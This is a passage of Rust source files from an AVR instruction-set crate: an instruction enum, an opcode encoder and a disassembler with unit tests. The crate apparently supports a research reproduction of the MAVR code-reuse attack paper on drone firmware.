    /// Branch if SREG bit `s` set, signed word offset −64..=63.
    Brbs {
        s: u8,
        k: i8,
    },
    /// Branch if SREG bit `s` clear.
    Brbc {
        s: u8,
        k: i8,
    },

    // ---- bit and SREG ----
    Bset {
        s: u8,
    },
    Bclr {
        s: u8,
    },
    Bst {
        d: Reg,
        b: u8,
    },
    Bld {
        d: Reg,
        b: u8,
    },
    Sbrc {
        r: Reg,
        b: u8,
    },
    Sbrs {
        r: Reg,
        b: u8,
    },
    Sbi {
        a: u8,
        b: u8,
    },
    Cbi {
        a: u8,
        b: u8,
    },
    Sbic {
        a: u8,
        b: u8,
    },
    Sbis {
        a: u8,
        b: u8,
    },

    /// A word that does not decode to any AVRe+ instruction. Executing one
    /// is the "executing garbage" failure mode the paper's master processor
    /// detects after a failed ROP attempt.
    Invalid(u16),
}

impl Insn {
    /// Width of this instruction in 16-bit words (1 or 2).
    pub fn words(&self) -> u32 {
        match self {
            Insn::Jmp { .. } | Insn::Call { .. } | Insn::Lds { .. } | Insn::Sts { .. } => 2,
            _ => 1,
        }
    }

    /// Width of this instruction in bytes (2 or 4).
    pub fn bytes(&self) -> u32 {
        self.words() * 2
    }

    /// Whether this is a return (`ret`/`reti`) — the terminator the gadget
    /// scanner looks for.
    pub fn is_return(&self) -> bool {
        matches!(self, Insn::Ret | Insn::Reti)
    }

    /// Whether this instruction transfers control unconditionally.
    pub fn is_unconditional_branch(&self) -> bool {
        matches!(
            self,
            Insn::Jmp { .. }
                | Insn::Rjmp { .. }
                | Insn::Ijmp
                | Insn::Eijmp
                | Insn::Ret
                | Insn::Reti
        )
    }

    /// Whether this is any call instruction.
    pub fn is_call(&self) -> bool {
        matches!(
            self,
            Insn::Call { .. } | Insn::Rcall { .. } | Insn::Icall | Insn::Eicall
        )
    }

    /// Whether this instruction may skip the next one (`cpse`, `sbrc`,
    /// `sbrs`, `sbic`, `sbis`).
    pub fn is_skip(&self) -> bool {
        matches!(
            self,
            Insn::Cpse { .. }
                | Insn::Sbrc { .. }
                | Insn::Sbrs { .. }
                | Insn::Sbic { .. }
                | Insn::Sbis { .. }
        )
    }

    /// The mnemonic, lower-case, without operands.
    pub fn mnemonic(&self) -> &'static str {
        match self {
            Insn::Nop => "nop",
            Insn::Ret => "ret",
            Insn::Reti => "reti",
            Insn::Icall => "icall",
            Insn::Eicall => "eicall",
            Insn::Ijmp => "ijmp",
            Insn::Eijmp => "eijmp",
            Insn::Sleep => "sleep",
            Insn::Break => "break",
            Insn::Wdr => "wdr",
            Insn::Spm => "spm",
            Insn::SpmZPostInc => "spm z+",
            Insn::Lpm0 => "lpm",
            Insn::Elpm0 => "elpm",
            Insn::Add { .. } => "add",
            Insn::Adc { .. } => "adc",
            Insn::Sub { .. } => "sub",
            Insn::Sbc { .. } => "sbc",
            Insn::And { .. } => "and",
            Insn::Or { .. } => "or",
            Insn::Eor { .. } => "eor",
            Insn::Cp { .. } => "cp",
            Insn::Cpc { .. } => "cpc",
            Insn::Cpse { .. } => "cpse",
            Insn::Mov { .. } => "mov",
            Insn::Mul { .. } => "mul",
            Insn::Movw { .. } => "movw",
            Insn::Muls { .. } => "muls",
            Insn::Mulsu { .. } => "mulsu",
            Insn::Fmul { .. } => "fmul",
            Insn::Fmuls { .. } => "fmuls",
            Insn::Fmulsu { .. } => "fmulsu",
            Insn::Ldi { .. } => "ldi",
            Insn::Cpi { .. } => "cpi",
            Insn::Subi { .. } => "subi",
            Insn::Sbci { .. } => "sbci",
            Insn::Ori { .. } => "ori",
            Insn::Andi { .. } => "andi",
            Insn::Com { .. } => "com",
            Insn::Neg { .. } => "neg",
            Insn::Swap { .. } => "swap",
            Insn::Inc { .. } => "inc",
            Insn::Dec { .. } => "dec",
            Insn::Asr { .. } => "asr",
            Insn::Lsr { .. } => "lsr",
            Insn::Ror { .. } => "ror",
            Insn::Adiw { .. } => "adiw",
            Insn::Sbiw { .. } => "sbiw",
            Insn::Ld { .. } => "ld",
            Insn::St { .. } => "st",
            Insn::Ldd { .. } => "ldd",
            Insn::Std { .. } => "std",
            Insn::Lds { .. } => "lds",
            Insn::Sts { .. } => "sts",
            Insn::Lpm { .. } => "lpm",
            Insn::Elpm { .. } => "elpm",
            Insn::Push { .. } => "push",
            Insn::Pop { .. } => "pop",
            Insn::In { .. } => "in",
            Insn::Out { .. } => "out",
            Insn::Jmp { .. } => "jmp",
            Insn::Call { .. } => "call",
            Insn::Rjmp { .. } => "rjmp",
            Insn::Rcall { .. } => "rcall",
            Insn::Brbs { .. } => "brbs",
            Insn::Brbc { .. } => "brbc",
            Insn::Bset { .. } => "bset",
            Insn::Bclr { .. } => "bclr",
            Insn::Bst { .. } => "bst",
            Insn::Bld { .. } => "bld",
            Insn::Sbrc { .. } => "sbrc",
            Insn::Sbrs { .. } => "sbrs",
            Insn::Sbi { .. } => "sbi",
            Insn::Cbi { .. } => "cbi",
            Insn::Sbic { .. } => "sbic",
            Insn::Sbis { .. } => "sbis",
            Insn::Invalid(_) => ".word",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn widths() {
        assert_eq!(Insn::Nop.words(), 1);
        assert_eq!(Insn::Jmp { k: 0 }.words(), 2);
        assert_eq!(Insn::Call { k: 0 }.words(), 2);
        assert_eq!(Insn::Lds { d: Reg::R0, k: 0 }.words(), 2);
        assert_eq!(Insn::Sts { k: 0, r: Reg::R0 }.words(), 2);
        assert_eq!(Insn::Rcall { k: -1 }.bytes(), 2);
    }

    #[test]
    fn classification() {
        assert!(Insn::Ret.is_return());
        assert!(Insn::Reti.is_return());
        assert!(!Insn::Rjmp { k: 0 }.is_return());
        assert!(Insn::Rjmp { k: 0 }.is_unconditional_branch());
        assert!(Insn::Call { k: 5 }.is_call());
        assert!(Insn::Sbrc { r: Reg::R1, b: 3 }.is_skip());
        assert!(!Insn::Brbs { s: 1, k: 2 }.is_unconditional_branch());
    }

    #[test]
    fn ptr_bases() {
        assert_eq!(PtrReg::XPostInc.base(), Reg::R26);
        assert_eq!(PtrReg::YPreDec.base(), Reg::R28);
        assert_eq!(PtrReg::ZPostInc.base(), Reg::R30);
        assert_eq!(YZ::Y.base(), Reg::R28);
        assert_eq!(YZ::Z.base(), Reg::R30);
    }
}
