//! AVR 8-bit instruction-set model for the MAVR reproduction.
//!
//! This crate models the AVR *enhanced* core as found on the Atmel
//! ATmega2560 used by the ArduPilot Mega 2.5 board targeted in the paper
//! (Habibi et al., *MAVR: Code Reuse Stealthy Attacks and Mitigation on
//! Unmanned Aerial Vehicles*, ICDCS 2015). It provides:
//!
//! * [`Insn`] — a typed representation of every instruction in the AVRe+
//!   instruction set (the set implemented by the ATmega2560),
//! * [`encode`](encode::encode) / [`decode`](decode::decode) — exact binary
//!   encoders and decoders that round-trip,
//! * a disassembler ([`Insn`]'s `Display` impl and [`disasm`]) used by the
//!   gadget scanner and by the harness that regenerates the paper's gadget
//!   listings (Figs. 4 and 5),
//! * [`cycles`] — instruction timing used by the cycle-accurate simulator,
//! * [`block`] — basic-block discovery and cycle folding over predecoded
//!   tables, feeding the simulator's block-fused fast dispatch,
//! * [`image`] — the `FirmwareImage`/`Symbol` vocabulary shared by the
//!   assembler, the randomizer and the attack library.
//!
//! The ATmega2560 has 256 KiB of flash, so its program counter is wider than
//! 16 bits: `CALL`/`JMP` carry a 22-bit word address and the hardware pushes
//! **3-byte** return addresses. Those device parameters live in [`device`].
//!
//! # Example
//!
//! ```
//! use avr_core::{Insn, Reg, encode::encode, decode::decode};
//!
//! let insn = Insn::Out { a: 0x3e, r: Reg::R29 }; // the head of stk_move (Fig. 4)
//! let words = encode(&insn).unwrap();
//! let (back, width) = decode(&words);
//! assert_eq!(back, insn);
//! assert_eq!(width, 1);
//! assert_eq!(insn.to_string(), "out 0x3e, r29");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod block;
pub mod cycles;
pub mod decode;
pub mod device;
pub mod disasm;
pub mod encode;
pub mod image;
mod insn;
mod reg;

pub use decode::Predecoded;
pub use insn::{Insn, PtrReg, YZ};
pub use reg::{io, sreg, Reg};

/// Errors produced when encoding an [`Insn`] whose operands are out of range.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EncodeError {
    /// A register operand is not valid for this instruction
    /// (e.g. `ldi` requires r16..r31).
    BadRegister {
        /// Instruction mnemonic.
        mnemonic: &'static str,
        /// The offending register.
        reg: Reg,
    },
    /// An immediate, displacement, bit index or address operand is out of the
    /// encodable range.
    OperandRange {
        /// Instruction mnemonic.
        mnemonic: &'static str,
        /// Description of the operand.
        operand: &'static str,
        /// The offending value.
        value: i64,
    },
}

impl std::fmt::Display for EncodeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            EncodeError::BadRegister { mnemonic, reg } => {
                write!(f, "{mnemonic}: register {reg} not encodable")
            }
            EncodeError::OperandRange {
                mnemonic,
                operand,
                value,
            } => write!(f, "{mnemonic}: {operand} = {value} out of range"),
        }
    }
}

impl std::error::Error for EncodeError {}
