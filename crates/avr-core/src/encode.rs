//! Binary encoding of [`Insn`] into 16-bit program-memory words.
//!
//! Encodings follow the *AVR Instruction Set Manual*; every path is covered
//! by the decode round-trip property test in [`crate::decode`].

use crate::{EncodeError, Insn, PtrReg, Reg, YZ};

type Result<T> = std::result::Result<T, EncodeError>;

fn two_reg(op: u16, d: Reg, r: Reg) -> u16 {
    let d = u16::from(d.num());
    let r = u16::from(r.num());
    op | ((r & 0x10) << 5) | (d << 4) | (r & 0x0f)
}

fn imm(op: u16, mnemonic: &'static str, d: Reg, k: u8) -> Result<u16> {
    if !d.is_upper() {
        return Err(EncodeError::BadRegister { mnemonic, reg: d });
    }
    let k = u16::from(k);
    let d = u16::from(d.num() - 16);
    Ok(op | ((k & 0xf0) << 4) | (d << 4) | (k & 0x0f))
}

fn one_reg(op4: u16, d: Reg) -> u16 {
    0x9400 | (u16::from(d.num()) << 4) | op4
}

fn adiw_like(op: u16, mnemonic: &'static str, d: Reg, k: u8) -> Result<u16> {
    if !matches!(d, Reg::R24 | Reg::R26 | Reg::R28 | Reg::R30) {
        return Err(EncodeError::BadRegister { mnemonic, reg: d });
    }
    if k > 63 {
        return Err(EncodeError::OperandRange {
            mnemonic,
            operand: "K",
            value: i64::from(k),
        });
    }
    let dd = u16::from((d.num() - 24) / 2);
    let k = u16::from(k);
    Ok(op | ((k & 0x30) << 2) | (dd << 4) | (k & 0x0f))
}

fn displaced(st: bool, idx: YZ, q: u8, reg: Reg, mnemonic: &'static str) -> Result<u16> {
    if q > 63 {
        return Err(EncodeError::OperandRange {
            mnemonic,
            operand: "q",
            value: i64::from(q),
        });
    }
    let q = u16::from(q);
    let mut w = 0x8000 | (u16::from(reg.num()) << 4);
    w |= (q & 0x20) << 8; // q5 -> bit 13
    w |= (q & 0x18) << 7; // q4:q3 -> bits 11:10
    w |= q & 0x07;
    if st {
        w |= 0x0200;
    }
    if idx == YZ::Y {
        w |= 0x0008;
    }
    Ok(w)
}

fn ld_st_mode(ptr: PtrReg) -> u16 {
    match ptr {
        PtrReg::ZPostInc => 0b0001,
        PtrReg::ZPreDec => 0b0010,
        PtrReg::YPostInc => 0b1001,
        PtrReg::YPreDec => 0b1010,
        PtrReg::X => 0b1100,
        PtrReg::XPostInc => 0b1101,
        PtrReg::XPreDec => 0b1110,
    }
}

fn io_bits(op: u16, a: u8, reg: Reg, mnemonic: &'static str) -> Result<u16> {
    if a > 63 {
        return Err(EncodeError::OperandRange {
            mnemonic,
            operand: "A",
            value: i64::from(a),
        });
    }
    let a = u16::from(a);
    Ok(op | ((a & 0x30) << 5) | (u16::from(reg.num()) << 4) | (a & 0x0f))
}

fn bit_io(op: u16, a: u8, b: u8, mnemonic: &'static str) -> Result<u16> {
    if a > 31 {
        return Err(EncodeError::OperandRange {
            mnemonic,
            operand: "A",
            value: i64::from(a),
        });
    }
    if b > 7 {
        return Err(EncodeError::OperandRange {
            mnemonic,
            operand: "b",
            value: i64::from(b),
        });
    }
    Ok(op | (u16::from(a) << 3) | u16::from(b))
}

fn reg_bit(op: u16, r: Reg, b: u8, mnemonic: &'static str) -> Result<u16> {
    if b > 7 {
        return Err(EncodeError::OperandRange {
            mnemonic,
            operand: "b",
            value: i64::from(b),
        });
    }
    Ok(op | (u16::from(r.num()) << 4) | u16::from(b))
}

fn check_sreg_bit(s: u8, mnemonic: &'static str) -> Result<u16> {
    if s > 7 {
        Err(EncodeError::OperandRange {
            mnemonic,
            operand: "s",
            value: i64::from(s),
        })
    } else {
        Ok(u16::from(s))
    }
}

fn narrow_pair(op: u16, d: Reg, r: Reg, lo: u8, hi: u8, mnemonic: &'static str) -> Result<u16> {
    for reg in [d, r] {
        if reg.num() < lo || reg.num() > hi {
            return Err(EncodeError::BadRegister { mnemonic, reg });
        }
    }
    Ok(op | (u16::from(d.num() - lo) << 4) | u16::from(r.num() - lo))
}

/// Encode one instruction into one or two 16-bit words.
///
/// Multi-word instructions (`jmp`, `call`, `lds`, `sts`) return two words;
/// everything else returns one. The words are in program-memory order (the
/// opcode word first).
pub fn encode(insn: &Insn) -> Result<Vec<u16>> {
    let one = |w: u16| Ok(vec![w]);
    match *insn {
        Insn::Nop => one(0x0000),
        Insn::Ret => one(0x9508),
        Insn::Reti => one(0x9518),
        Insn::Icall => one(0x9509),
        Insn::Eicall => one(0x9519),
        Insn::Ijmp => one(0x9409),
        Insn::Eijmp => one(0x9419),
        Insn::Sleep => one(0x9588),
        Insn::Break => one(0x9598),
        Insn::Wdr => one(0x95a8),
        Insn::Spm => one(0x95e8),
        Insn::SpmZPostInc => one(0x95f8),
        Insn::Lpm0 => one(0x95c8),
        Insn::Elpm0 => one(0x95d8),

        Insn::Cpc { d, r } => one(two_reg(0x0400, d, r)),
        Insn::Sbc { d, r } => one(two_reg(0x0800, d, r)),
        Insn::Add { d, r } => one(two_reg(0x0c00, d, r)),
        Insn::Cpse { d, r } => one(two_reg(0x1000, d, r)),
        Insn::Cp { d, r } => one(two_reg(0x1400, d, r)),
        Insn::Sub { d, r } => one(two_reg(0x1800, d, r)),
        Insn::Adc { d, r } => one(two_reg(0x1c00, d, r)),
        Insn::And { d, r } => one(two_reg(0x2000, d, r)),
        Insn::Eor { d, r } => one(two_reg(0x2400, d, r)),
        Insn::Or { d, r } => one(two_reg(0x2800, d, r)),
        Insn::Mov { d, r } => one(two_reg(0x2c00, d, r)),
        Insn::Mul { d, r } => one(two_reg(0x9c00, d, r)),

        Insn::Movw { d, r } => {
            for reg in [d, r] {
                if reg.num() % 2 != 0 {
                    return Err(EncodeError::BadRegister {
                        mnemonic: "movw",
                        reg,
                    });
                }
            }
            one(0x0100 | (u16::from(d.num() / 2) << 4) | u16::from(r.num() / 2))
        }
        Insn::Muls { d, r } => one(narrow_pair(0x0200, d, r, 16, 31, "muls")?),
        Insn::Mulsu { d, r } => one(narrow_pair(0x0300, d, r, 16, 23, "mulsu")?),
        Insn::Fmul { d, r } => one(narrow_pair(0x0308, d, r, 16, 23, "fmul")?),
        Insn::Fmuls { d, r } => one(narrow_pair(0x0380, d, r, 16, 23, "fmuls")?),
        Insn::Fmulsu { d, r } => one(narrow_pair(0x0388, d, r, 16, 23, "fmulsu")?),

        Insn::Cpi { d, k } => one(imm(0x3000, "cpi", d, k)?),
        Insn::Sbci { d, k } => one(imm(0x4000, "sbci", d, k)?),
        Insn::Subi { d, k } => one(imm(0x5000, "subi", d, k)?),
        Insn::Ori { d, k } => one(imm(0x6000, "ori", d, k)?),
        Insn::Andi { d, k } => one(imm(0x7000, "andi", d, k)?),
        Insn::Ldi { d, k } => one(imm(0xe000, "ldi", d, k)?),

        Insn::Com { d } => one(one_reg(0x0, d)),
        Insn::Neg { d } => one(one_reg(0x1, d)),
        Insn::Swap { d } => one(one_reg(0x2, d)),
        Insn::Inc { d } => one(one_reg(0x3, d)),
        Insn::Asr { d } => one(one_reg(0x5, d)),
        Insn::Lsr { d } => one(one_reg(0x6, d)),
        Insn::Ror { d } => one(one_reg(0x7, d)),
        Insn::Dec { d } => one(one_reg(0xa, d)),

        Insn::Adiw { d, k } => one(adiw_like(0x9600, "adiw", d, k)?),
        Insn::Sbiw { d, k } => one(adiw_like(0x9700, "sbiw", d, k)?),

        Insn::Ldd { d, idx, q } => one(displaced(false, idx, q, d, "ldd")?),
        Insn::Std { idx, q, r } => one(displaced(true, idx, q, r, "std")?),

        Insn::Ld { d, ptr } => one(0x9000 | (u16::from(d.num()) << 4) | ld_st_mode(ptr)),
        Insn::St { ptr, r } => one(0x9200 | (u16::from(r.num()) << 4) | ld_st_mode(ptr)),

        Insn::Lds { d, k } => Ok(vec![0x9000 | (u16::from(d.num()) << 4), k]),
        Insn::Sts { k, r } => Ok(vec![0x9200 | (u16::from(r.num()) << 4), k]),

        Insn::Lpm { d, post_inc } => {
            one(0x9004 | (u16::from(d.num()) << 4) | if post_inc { 0b0101 } else { 0b0100 })
        }
        Insn::Elpm { d, post_inc } => {
            one(0x9004 | (u16::from(d.num()) << 4) | if post_inc { 0b0111 } else { 0b0110 })
        }

        Insn::Push { r } => one(0x920f | (u16::from(r.num()) << 4)),
        Insn::Pop { d } => one(0x900f | (u16::from(d.num()) << 4)),

        Insn::In { d, a } => one(io_bits(0xb000, a, d, "in")?),
        Insn::Out { a, r } => one(io_bits(0xb800, a, r, "out")?),

        Insn::Jmp { k } => encode_long(0x940c, k, "jmp"),
        Insn::Call { k } => encode_long(0x940e, k, "call"),

        Insn::Rjmp { k } => one(rel12(0xc000, k, "rjmp")?),
        Insn::Rcall { k } => one(rel12(0xd000, k, "rcall")?),

        Insn::Brbs { s, k } => one(branch(0xf000, s, k, "brbs")?),
        Insn::Brbc { s, k } => one(branch(0xf400, s, k, "brbc")?),

        Insn::Bset { s } => one(0x9408 | (check_sreg_bit(s, "bset")? << 4)),
        Insn::Bclr { s } => one(0x9488 | (check_sreg_bit(s, "bclr")? << 4)),
        Insn::Bst { d, b } => one(reg_bit(0xfa00, d, b, "bst")?),
        Insn::Bld { d, b } => one(reg_bit(0xf800, d, b, "bld")?),
        Insn::Sbrc { r, b } => one(reg_bit(0xfc00, r, b, "sbrc")?),
        Insn::Sbrs { r, b } => one(reg_bit(0xfe00, r, b, "sbrs")?),
        Insn::Sbi { a, b } => one(bit_io(0x9a00, a, b, "sbi")?),
        Insn::Cbi { a, b } => one(bit_io(0x9800, a, b, "cbi")?),
        Insn::Sbic { a, b } => one(bit_io(0x9900, a, b, "sbic")?),
        Insn::Sbis { a, b } => one(bit_io(0x9b00, a, b, "sbis")?),

        Insn::Invalid(w) => one(w),
    }
}

fn encode_long(op: u16, k: u32, mnemonic: &'static str) -> Result<Vec<u16>> {
    if k > 0x3f_ffff {
        return Err(EncodeError::OperandRange {
            mnemonic,
            operand: "k",
            value: i64::from(k),
        });
    }
    let hi = ((k >> 17) & 0x1f) as u16;
    let bit16 = ((k >> 16) & 1) as u16;
    Ok(vec![op | (hi << 4) | bit16, (k & 0xffff) as u16])
}

fn rel12(op: u16, k: i16, mnemonic: &'static str) -> Result<u16> {
    if !(-2048..=2047).contains(&k) {
        return Err(EncodeError::OperandRange {
            mnemonic,
            operand: "k",
            value: i64::from(k),
        });
    }
    Ok(op | (k as u16 & 0x0fff))
}

fn branch(op: u16, s: u8, k: i8, mnemonic: &'static str) -> Result<u16> {
    if s > 7 {
        return Err(EncodeError::OperandRange {
            mnemonic,
            operand: "s",
            value: i64::from(s),
        });
    }
    if !(-64..=63).contains(&k) {
        return Err(EncodeError::OperandRange {
            mnemonic,
            operand: "k",
            value: i64::from(k),
        });
    }
    Ok(op | ((k as u16 & 0x7f) << 3) | u16::from(s))
}

/// Encode a sequence of instructions into a little-endian byte vector, as the
/// words are laid out in AVR flash.
pub fn encode_to_bytes(insns: &[Insn]) -> Result<Vec<u8>> {
    let mut out = Vec::with_capacity(insns.len() * 2);
    for insn in insns {
        for w in encode(insn)? {
            out.extend_from_slice(&w.to_le_bytes());
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Reg;

    #[test]
    fn known_encodings() {
        // Values cross-checked against avr-gcc disassembly conventions.
        assert_eq!(encode(&Insn::Nop).unwrap(), vec![0x0000]);
        assert_eq!(encode(&Insn::Ret).unwrap(), vec![0x9508]);
        assert_eq!(encode(&Insn::Reti).unwrap(), vec![0x9518]);
        // out 0x3e, r29 -> 1011 1011 1101 1110 = 0xbfde
        assert_eq!(
            encode(&Insn::Out {
                a: 0x3e,
                r: Reg::R29
            })
            .unwrap(),
            vec![0xbfde]
        );
        // out 0x3d, r28 -> 0xbfcd
        assert_eq!(
            encode(&Insn::Out {
                a: 0x3d,
                r: Reg::R28
            })
            .unwrap(),
            vec![0xbfcd]
        );
        // pop r28 = 0x91cf, push r28 = 0x93cf
        assert_eq!(encode(&Insn::Pop { d: Reg::R28 }).unwrap(), vec![0x91cf]);
        assert_eq!(encode(&Insn::Push { r: Reg::R28 }).unwrap(), vec![0x93cf]);
        // ldi r22, 0x01 -> 0xe061
        assert_eq!(
            encode(&Insn::Ldi { d: Reg::R22, k: 1 }).unwrap(),
            vec![0xe061]
        );
        // std Y+1, r5 -> 1000 0010 0101 1001 = 0x8259
        assert_eq!(
            encode(&Insn::Std {
                idx: YZ::Y,
                q: 1,
                r: Reg::R5
            })
            .unwrap(),
            vec![0x8259]
        );
        // jmp 0x200 (word addr) -> 0x940c 0x0200
        assert_eq!(
            encode(&Insn::Jmp { k: 0x200 }).unwrap(),
            vec![0x940c, 0x0200]
        );
        // call across the 128 Kword boundary exercises bit 16.
        assert_eq!(
            encode(&Insn::Call { k: 0x1_0002 }).unwrap(),
            vec![0x940f, 0x0002]
        );
        // rjmp .+2 (k = 1 word) -> 0xc001 ; rjmp .-2 -> 0xcfff
        assert_eq!(encode(&Insn::Rjmp { k: 1 }).unwrap(), vec![0xc001]);
        assert_eq!(encode(&Insn::Rjmp { k: -1 }).unwrap(), vec![0xcfff]);
        // breq .+4 = brbs 1, .+4 -> 0xf011
        assert_eq!(encode(&Insn::Brbs { s: 1, k: 2 }).unwrap(), vec![0xf011]);
        // movw r24, r30 -> 0x01cf
        assert_eq!(
            encode(&Insn::Movw {
                d: Reg::R24,
                r: Reg::R30
            })
            .unwrap(),
            vec![0x01cf]
        );
        // adiw r28, 1 -> 0x9621
        assert_eq!(
            encode(&Insn::Adiw { d: Reg::R28, k: 1 }).unwrap(),
            vec![0x9621]
        );
        // lds r24, 0x0200 -> 0x9180 0x0200
        assert_eq!(
            encode(&Insn::Lds {
                d: Reg::R24,
                k: 0x200
            })
            .unwrap(),
            vec![0x9180, 0x0200]
        );
        // sts 0x0200, r24 -> 0x9380 0x0200
        assert_eq!(
            encode(&Insn::Sts {
                k: 0x200,
                r: Reg::R24
            })
            .unwrap(),
            vec![0x9380, 0x0200]
        );
    }

    #[test]
    fn operand_validation() {
        assert!(matches!(
            encode(&Insn::Ldi { d: Reg::R5, k: 1 }),
            Err(EncodeError::BadRegister {
                mnemonic: "ldi",
                ..
            })
        ));
        assert!(matches!(
            encode(&Insn::Adiw { d: Reg::R25, k: 1 }),
            Err(EncodeError::BadRegister { .. })
        ));
        assert!(encode(&Insn::Adiw { d: Reg::R24, k: 64 }).is_err());
        assert!(encode(&Insn::Rjmp { k: 2048 }).is_err());
        assert!(encode(&Insn::Rjmp { k: -2049 }).is_err());
        assert!(encode(&Insn::Brbs { s: 8, k: 0 }).is_err());
        assert!(encode(&Insn::Brbs { s: 0, k: 64 }).is_err());
        assert!(encode(&Insn::Jmp { k: 0x40_0000 }).is_err());
        assert!(encode(&Insn::Movw {
            d: Reg::R1,
            r: Reg::R2
        })
        .is_err());
        assert!(encode(&Insn::Std {
            idx: YZ::Y,
            q: 64,
            r: Reg::R0
        })
        .is_err());
        assert!(encode(&Insn::In { d: Reg::R0, a: 64 }).is_err());
        assert!(encode(&Insn::Sbi { a: 32, b: 0 }).is_err());
        assert!(encode(&Insn::Mulsu {
            d: Reg::R24,
            r: Reg::R16
        })
        .is_err());
    }

    #[test]
    fn encode_to_bytes_is_little_endian() {
        let bytes = encode_to_bytes(&[Insn::Ret, Insn::Jmp { k: 0x1234 }]).unwrap();
        assert_eq!(bytes, vec![0x08, 0x95, 0x0c, 0x94, 0x34, 0x12]);
    }
}
