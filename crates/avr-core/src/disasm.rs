//! Disassembly: `Display` for [`Insn`] and listing generation in the style
//! of the paper's gadget figures (Figs. 4 and 5).

use std::fmt;

use crate::decode::decode_at;
use crate::{Insn, PtrReg, YZ};

impl fmt::Display for PtrReg {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            PtrReg::X => "X",
            PtrReg::XPostInc => "X+",
            PtrReg::XPreDec => "-X",
            PtrReg::YPostInc => "Y+",
            PtrReg::YPreDec => "-Y",
            PtrReg::ZPostInc => "Z+",
            PtrReg::ZPreDec => "-Z",
        };
        f.write_str(s)
    }
}

impl fmt::Display for YZ {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            YZ::Y => "Y",
            YZ::Z => "Z",
        })
    }
}

impl fmt::Display for Insn {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let m = self.mnemonic();
        match *self {
            Insn::Nop
            | Insn::Ret
            | Insn::Reti
            | Insn::Icall
            | Insn::Eicall
            | Insn::Ijmp
            | Insn::Eijmp
            | Insn::Sleep
            | Insn::Break
            | Insn::Wdr
            | Insn::Spm
            | Insn::SpmZPostInc
            | Insn::Lpm0
            | Insn::Elpm0 => f.write_str(m),

            Insn::Add { d, r }
            | Insn::Adc { d, r }
            | Insn::Sub { d, r }
            | Insn::Sbc { d, r }
            | Insn::And { d, r }
            | Insn::Or { d, r }
            | Insn::Eor { d, r }
            | Insn::Cp { d, r }
            | Insn::Cpc { d, r }
            | Insn::Cpse { d, r }
            | Insn::Mov { d, r }
            | Insn::Mul { d, r }
            | Insn::Movw { d, r }
            | Insn::Muls { d, r }
            | Insn::Mulsu { d, r }
            | Insn::Fmul { d, r }
            | Insn::Fmuls { d, r }
            | Insn::Fmulsu { d, r } => write!(f, "{m} {d}, {r}"),

            Insn::Ldi { d, k }
            | Insn::Cpi { d, k }
            | Insn::Subi { d, k }
            | Insn::Sbci { d, k }
            | Insn::Ori { d, k }
            | Insn::Andi { d, k } => write!(f, "{m} {d}, {k:#04x}"),

            Insn::Com { d }
            | Insn::Neg { d }
            | Insn::Swap { d }
            | Insn::Inc { d }
            | Insn::Dec { d }
            | Insn::Asr { d }
            | Insn::Lsr { d }
            | Insn::Ror { d }
            | Insn::Pop { d } => write!(f, "{m} {d}"),

            Insn::Push { r } => write!(f, "{m} {r}"),

            Insn::Adiw { d, k } | Insn::Sbiw { d, k } => write!(f, "{m} {d}, {k:#04x}"),

            Insn::Ld { d, ptr } => write!(f, "ld {d}, {ptr}"),
            Insn::St { ptr, r } => write!(f, "st {ptr}, {r}"),
            Insn::Ldd { d, idx, q } => {
                if q == 0 {
                    write!(f, "ld {d}, {idx}")
                } else {
                    write!(f, "ldd {d}, {idx}+{q}")
                }
            }
            Insn::Std { idx, q, r } => {
                if q == 0 {
                    write!(f, "st {idx}, {r}")
                } else {
                    write!(f, "std {idx}+{q}, {r}")
                }
            }
            Insn::Lds { d, k } => write!(f, "lds {d}, {k:#06x}"),
            Insn::Sts { k, r } => write!(f, "sts {k:#06x}, {r}"),
            Insn::Lpm { d, post_inc } | Insn::Elpm { d, post_inc } => {
                write!(f, "{m} {d}, Z{}", if post_inc { "+" } else { "" })
            }

            Insn::In { d, a } => write!(f, "in {d}, {a:#04x}"),
            Insn::Out { a, r } => write!(f, "out {a:#04x}, {r}"),

            // Word addresses shown as byte addresses / byte offsets, matching
            // avr-objdump and the paper's listings.
            Insn::Jmp { k } => write!(f, "jmp {:#x}", k * 2),
            Insn::Call { k } => write!(f, "call {:#x}", k * 2),
            Insn::Rjmp { k } => write!(f, "rjmp .{:+}", i32::from(k) * 2 + 2),
            Insn::Rcall { k } => write!(f, "rcall .{:+}", i32::from(k) * 2 + 2),
            Insn::Brbs { s, k } => write!(f, "{} .{:+}", brbs_alias(s, true), i32::from(k) * 2 + 2),
            Insn::Brbc { s, k } => {
                write!(f, "{} .{:+}", brbs_alias(s, false), i32::from(k) * 2 + 2)
            }

            Insn::Bset { s } => write!(f, "bset {s}"),
            Insn::Bclr { s } => write!(f, "bclr {s}"),
            Insn::Bst { d, b } => write!(f, "bst {d}, {b}"),
            Insn::Bld { d, b } => write!(f, "bld {d}, {b}"),
            Insn::Sbrc { r, b } => write!(f, "sbrc {r}, {b}"),
            Insn::Sbrs { r, b } => write!(f, "sbrs {r}, {b}"),
            Insn::Sbi { a, b } => write!(f, "sbi {a:#04x}, {b}"),
            Insn::Cbi { a, b } => write!(f, "cbi {a:#04x}, {b}"),
            Insn::Sbic { a, b } => write!(f, "sbic {a:#04x}, {b}"),
            Insn::Sbis { a, b } => write!(f, "sbis {a:#04x}, {b}"),

            Insn::Invalid(w) => write!(f, ".word {w:#06x}"),
        }
    }
}

fn brbs_alias(s: u8, set: bool) -> &'static str {
    match (s, set) {
        (0, true) => "brcs",
        (0, false) => "brcc",
        (1, true) => "breq",
        (1, false) => "brne",
        (2, true) => "brmi",
        (2, false) => "brpl",
        (3, true) => "brvs",
        (3, false) => "brvc",
        (4, true) => "brlt",
        (4, false) => "brge",
        (5, true) => "brhs",
        (5, false) => "brhc",
        (6, true) => "brts",
        (6, false) => "brtc",
        (_, true) => "brie",
        (_, false) => "brid",
    }
}

/// One line of a disassembly listing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Line {
    /// Byte address of the instruction in program memory.
